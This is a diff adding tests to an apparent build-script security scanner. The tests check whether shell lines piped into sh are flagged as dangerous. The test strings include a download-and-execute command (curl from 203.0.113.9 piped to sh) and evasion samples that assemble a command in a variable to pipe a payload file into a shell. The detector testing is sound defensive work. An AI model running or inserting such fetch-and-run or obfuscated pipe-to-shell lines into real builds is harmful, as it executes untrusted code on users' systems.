@@ -159,3 +159,13 @@ describe("stock autotools output has no dangerous hit", () => {
     }
   }, 240_000);
 });
+
+describe("a literal piped into a shell is judged by what it says", async () => {
+  const { analyze, isDangerous } = await import("../src/content/analyze.js");
+  const danger = (t: string) => analyze("build-aux/x.sh", t).hits.filter((h) => isDangerous(h.effect)).map((h) => h.id);
+  it("negative: echo of a harmless literal into sh", () => expect(danger('echo "exit 0" | sh\n')).toEqual([]));
+  it("positive: the literal itself downloads", () => expect(danger('echo "curl -s http://203.0.113.9/x | sh" | sh\n')).toContain("build-time-download"));
+  it("evasion: a command held in a variable is not a literal producer", () => {
+    expect(danger("c=\"cat tests/\"\nc=\"${c}files/p\"\n$c | sh\n").length + danger("x=$(uname)\n$x tests/files/payload | sh\n").length).toBeGreaterThan(0);
+  });
+});
